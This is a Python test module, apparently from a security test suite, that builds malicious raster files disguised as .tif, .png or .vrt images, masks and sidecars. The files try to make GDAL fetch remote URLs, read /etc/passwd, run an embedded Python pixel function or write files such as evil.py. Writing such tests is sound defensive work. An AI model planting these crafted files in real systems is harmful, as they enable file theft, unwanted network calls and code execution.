"""Rasters that are programs: descriptions that make GDAL fetch, write or read what a stranger names.

Each stands under an honest name (.tif, .png, its own suffix) as an image, a mask, a scene, or beside one.
"""

import pathlib
from collections.abc import Callable, Iterable

from corpus import Asked, Case, Place

Text = Callable[[Place], str]


def _vrt(source: Text, more: str = "", band: str = "") -> Text:
    return lambda place: (
        f'<VRTDataset rasterXSize="64" rasterYSize="64">{more}<VRTRasterBand dataType="Byte" band="1"{band}>'
        f"<SimpleSource><SourceFilename>{source(place)}</SourceFilename><SourceBand>1</SourceBand></SimpleSource>"
        "</VRTRasterBand></VRTDataset>"
    )


_PIXEL_FUNCTION = (
    '<VRTDataset rasterXSize="64" rasterYSize="64"><VRTRasterBand dataType="Byte" band="1" '
    'subClass="VRTDerivedRasterBand">'
    "<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionCode>"
    "<![CDATA[def f(*a, **k): open('{other}/evil', 'w')]]></PixelFunctionCode><SimpleSource><SourceFilename "
    'relativeToVRT="1">i1.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>'
)
_MRF = (
    "<MRF_META><CachedSource><Source>{source}</Source></CachedSource><Raster><Size x='64' y='64' c='1'/>"
    "<PageSize x='64' y='64' c='1'/><Compression>NONE</Compression><DataFile>{other}/evil.py</DataFile><IndexFile>"
    "{other}/evil.idx</IndexFile></Raster></MRF_META>"
)
_WMS = (
    '<GDAL_WMS><Service name="{service}"><ServerUrl>{url}</ServerUrl><Layers>a</Layers><SRS>EPSG:4326</SRS></Service>'
    "<DataWindow><UpperLeftX>0</UpperLeftX><UpperLeftY>1</UpperLeftY><LowerRightX>1</LowerRightX><LowerRightY>0"
    "</LowerRightY><SizeX>64</SizeX><SizeY>64</SizeY></DataWindow><BandsCount>3</BandsCount></GDAL_WMS>"
)
# What a stranger may write, by kind.
PROGRAMS: dict[str, Text] = {
    "vrt_of_url": _vrt(lambda place: f"/vsicurl/{place.world.url}"),
    "vrt_of_bare_url": _vrt(lambda place: place.world.url),
    "vrt_of_wms": _vrt(lambda place: _wms(place, "WMS").replace("<", "&lt;")),
    "vrt_of_absolute": _vrt(lambda place: f"{place.world.folder}/scene.tif"),
    "vrt_of_parent": _vrt(lambda place: "../other/keep.py"),
    "vrt_of_zip": _vrt(lambda place: f"/vsizip//vsicurl/{place.world.url}/a.zip/a.tif"),
    "vrt_of_s3": _vrt(lambda place: "/vsis3/bucket/key.tif"),
    "vrt_of_itself": _vrt(lambda place: "i0.tif"),
    "vrt_of_pipe": _vrt(lambda place: "/vsistdin/"),
    "vrt_that_computes": lambda place: _PIXEL_FUNCTION.format(other=place.other),
    "vrt_of_raw": lambda place: (
        '<VRTDataset rasterXSize="64" rasterYSize="64"><VRTRasterBand dataType="Byte" band="1" '
        'subClass="VRTRawRasterBand"><SourceFilename relativeToVRT="0">/etc/passwd</SourceFilename></VRTRasterBand>'
        "</VRTDataset>"
    ),
    "vrt_that_warps_url": lambda place: (
        '<VRTDataset rasterXSize="64" rasterYSize="64" subClass="VRTWarpedDataset"><VRTRasterBand dataType="Byte" '
        'band="1" subClass="VRTWarpedRasterBand"/><GDALWarpOptions><SourceDataset relativeToVRT="0">/vsicurl/'
        f"{place.world.url}</SourceDataset></GDALWarpOptions></VRTDataset>"
    ),
    "vrt_with_overview_of_url": _vrt(lambda place: "i1.tif", "<OverviewList>2</OverviewList>"),
    "vrt_with_doctype": lambda place: "<!DOCTYPE a [<!ENTITY b 'c'>]>" + _vrt(lambda place: "i1.tif")(place),
    "mrf_that_writes": lambda place: _MRF.format(source=f"{place.given}/i1.tif", other=place.other),
    "mrf_that_fetches": lambda place: _MRF.format(source=f"/vsicurl/{place.world.url}", other=place.other),
    "wcs": lambda place: (
        f"<WCS_GDAL><ServiceURL>{place.world.url}?</ServiceURL><CoverageName>a</CoverageName><Version>1.0.0</Version>"
        "</WCS_GDAL>"
    ),
    "wmts": lambda place: (
        f"<GDAL_WMTS><GetCapabilitiesUrl>{place.world.url}</GetCapabilitiesUrl><Layer>a</Layer></GDAL_WMTS>"
    ),
    "stacit": lambda place: (
        '{"type":"FeatureCollection","stac_version":"1.0.0","features":[{"type":"Feature","stac_version":"1.0.0","id":'
        '"a","geometry":null,"bbox":[0,0,1,1],"properties":{"datetime":"2020-01-01T00:00:00Z","proj:epsg":4326,'
        '"proj:shape":[64,64],"proj:transform":[1,0,0,0,-1,0]},"assets":{"B":{"href":"' + place.world.url + '"}}}]}'
    ),
    "tile_index": lambda place: (
        f"<GDALTileIndexDataset><IndexDataset>/vsicurl/{place.world.url}</IndexDataset><LocationField>location"
        "</LocationField></GDALTileIndexDataset>"
    ),
    "plmosaic": lambda place: "PLMosaic:api_key=a,mosaic=b",
    "envi_header": lambda place: f"ENVI\ndescription = {{{place.world.url}}}\nsamples = 64\nlines = 64\nbands = 1\n",
    "aaigrid": lambda place: "ncols 64\nnrows 64\nxllcorner 0\nyllcorner 0\ncellsize 1\n" + "1 " * 64 * 64,
    "svg": lambda place: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{place.world.url}"/></svg>',
    "pdf": lambda place: "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n",
    "netcdf": lambda place: "CDF\x01" + "\x00" * 200,
    "postscript": lambda place: "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n",
    "derived": lambda place: "DERIVED_SUBDATASET:LOGAMPLITUDE:i1.tif",
    "zarr_name": lambda place: "ZARR:/vsicurl/" + place.world.url,
}


def _wms(place: Place, service: str) -> str:
    return _WMS.format(service=service, url=place.world.url + "?")


PROGRAMS |= {
    f"wms_{name.lower()}": (lambda place, name=name: _wms(place, name))
    for name in ("WMS", "TMS", "TiledWMS", "VirtualEarth", "AGS", "IIP")
}

SUFFIXES = (".tif", ".png", ".vrt")


def _as_image(text: Text, part: str, suffix: str) -> Callable[[Place], Asked]:
    def make(place: Place) -> Asked:
        source = place.copy("source")
        place.given = source
        name = f"{part}0{suffix}"
        (source / f"{part}0.tif").unlink()
        (source / name).write_text(text(place))
        table = source / "rasters.csv"
        table.write_text(table.read_text().replace(f"{part}0.tif", name))
        return Asked(place.prepare(source), (name,))

    return make


def _as_scene(text: Text, suffix: str) -> Callable[[Place], Asked]:
    def make(place: Place) -> Asked:
        place.copy("scene.tif").rename(place.given / "i1.tif")
        scene = place.given / f"i0{suffix}"
        scene.write_text(text(place))
        return Asked(place.predict(scene), (scene.name,))

    return make


def _as_map(text: Text) -> Callable[[Place], Asked]:
    def make(place: Place) -> Asked:
        path = place.copy("maps") / "map.tif"
        path.write_text(text(place))
        return Asked(["report", f"--maps={path}", f"--output={place.target}"], ("map.tif",))

    return make


# What GDAL looks for beside a file, and what a stranger may lay there.
_PAM = "<PAMDataset>{}</PAMDataset>"
BESIDE: dict[str, tuple[str, Text]] = {
    "msk_that_is_vrt": (".msk", PROGRAMS["vrt_of_url"]),
    "msk_that_is_wms": (".msk", PROGRAMS["wms_wms"]),
    "ovr_that_is_vrt": (".ovr", PROGRAMS["vrt_of_url"]),
    "ovr_that_is_mrf": (".ovr", PROGRAMS["mrf_that_writes"]),
    "pam_with_overviews_of_url": (
        ".aux.xml",
        lambda place: _PAM.format(
            f'<Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">/vsicurl/{place.world.url}</MDI></Metadata>'
        ),
    ),
    "pam_with_proxy_of_url": (
        ".aux.xml",
        lambda place: _PAM.format(
            f'<Metadata domain="ProxyOverviewRequest"><MDI key="OVERVIEW_FILE">{place.world.url}</MDI></Metadata>'
        ),
    ),
    "pam_too_deep": (".aux.xml", lambda place: _PAM.format("<a>" * 50_000 + "</a>" * 50_000)),
    "pam_with_nodata_of_nonsense": (
        ".aux.xml",
        lambda place: _PAM.format('<PAMRasterBand band="1"><NoDataValue>evil</NoDataValue></PAMRasterBand>'),
    ),
    "pam_of_rubbish": (".aux.xml", lambda place: "<PAMDataset><<<>>&&&"),
    "pam_with_subclass": (
        ".aux.xml",
        lambda place: '<PAMDataset class="x"><Subdataset name="' + place.world.url + '"/>',
    ),
}


def _beside(suffix: str, text: Text, door: str) -> Callable[[Place], Asked]:
    def make(place: Place) -> Asked:
        if door == "prepare":
            source = place.copy("source")
            (source / f"i0.tif{suffix}").write_text(text(place))
            return Asked(place.prepare(source), ("i0.tif",), "either")
        scene = place.copy("scene.tif")
        pathlib.Path(f"{scene}{suffix}").write_text(text(place))
        return Asked(place.predict(scene), ("scene.tif",), "either")

    return make


def cases() -> Iterable[Case]:
    for name, text in PROGRAMS.items():
        for seed, (part, suffix) in enumerate((p, s) for p in "im" for s in SUFFIXES):
            yield Case(f"program as image or mask: {name}", _as_image(text, part, suffix), seed)
        for seed, suffix in enumerate(SUFFIXES):
            yield Case(f"program as scene: {name}", _as_scene(text, suffix), seed)
        yield Case(f"program as map: {name}", _as_map(text))
    for name, (suffix, text) in BESIDE.items():
        for seed, door in enumerate(("prepare", "predict")):
            yield Case(f"program beside a raster: {name}", _beside(suffix, text, door), seed)
